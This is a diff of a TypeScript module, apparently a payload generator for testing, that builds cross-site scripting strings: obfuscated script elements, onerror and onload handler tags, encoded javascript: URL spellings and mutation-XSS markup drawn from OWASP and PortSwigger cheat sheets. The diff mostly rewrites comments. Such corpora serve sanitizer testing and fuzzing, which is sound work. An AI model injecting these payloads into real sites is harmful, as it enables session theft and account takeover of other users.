@@ -1,7 +1,7 @@
 /**
- * Texts that would run a script if a page took them as they are: script elements in every disguise, handlers of events,
- * addresses that are scripts, and HTML that changes its meaning between two parsers. Collected by kind after the cheat
- * sheets of OWASP and PortSwigger. `act` is what the script does: a statement without spaces and quotes.
+ * Texts that run a script if a page shows them unsanitized: obfuscated script elements, event handlers, script URLs, and HTML
+ * that two parsers read differently. Based on the cheat sheets of OWASP and PortSwigger. `act` is the script: a statement without
+ * spaces and quotes.
  */
 export const injectionsOf = (act: string): readonly string[] => [
   ...new Set(
@@ -9,7 +9,7 @@ export const injectionsOf = (act: string): readonly string[] => [
   ),
 ]
 
-/** The same word as a parser reads it and a naive filter does not. */
+/** Encoded so that a parser reads the word and a naive filter does not. */
 const entities = (text: string) => [...text].map(sign => `&#${sign.codePointAt(0)};`).join('')
 const hexEntities = (text: string) =>
   [...text].map(sign => `&#x${sign.codePointAt(0)?.toString(16)}`).join('')
@@ -57,7 +57,7 @@ const scripts = (act: string) => [
   `<b <script>${act}</script>`,
 ]
 
-/** Elements that fire by themselves, and those that fire when they are touched; `~` is the handler's name. */
+/** Elements whose event fires on its own or on interaction; `~` is the handler's name. */
 const holders: Record<string, string> = {
   onerror:
     '<img src=x ~>|<img src ~>|<image src=x ~>|<video src=x ~></video>|<audio src=x ~></audio>|<video><source ~></video>|<audio><source ~></audio>|<link rel=stylesheet href=/none ~>|<script src=/none ~></script>|<object data=x ~></object>|<input type=image src=x ~>|<svg><image href=x ~></svg>|<picture><source srcset=x><img ~ src=x></picture>|<embed src=/none ~>',
@@ -80,7 +80,6 @@ const holders: Record<string, string> = {
   onresize: '<body ~>',
   onhashchange: '<body ~>',
 }
-/** The same handler written in other ways. */
 const spellings = (name: string, act: string) => [
   `${name}=${act}`,
   `${name.toUpperCase()}="${act}"`,
@@ -118,7 +117,7 @@ const disguisedHandlers = (act: string) => [
   `</title><svg onload=${act}>`,
 ]
 
-/** `javascript:` as browsers still read it. */
+/** Spellings of `javascript:` that browsers still accept. */
 const schemes = [
   'javascript:',
   'JavaScript:',
@@ -165,7 +164,7 @@ const otherAddresses = (act: string) => [
   `<svg><a><set attributeName=href to="javascript:${act}" /><text y=9>t</text></a></svg>`,
 ]
 
-/** What one parser takes for text and the next one for elements. */
+/** HTML that one parser reads as text and another as elements. */
 const mutations = (act: string) => [
   `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
   `<svg><style><img src=x onerror=${act}></style></svg>`,
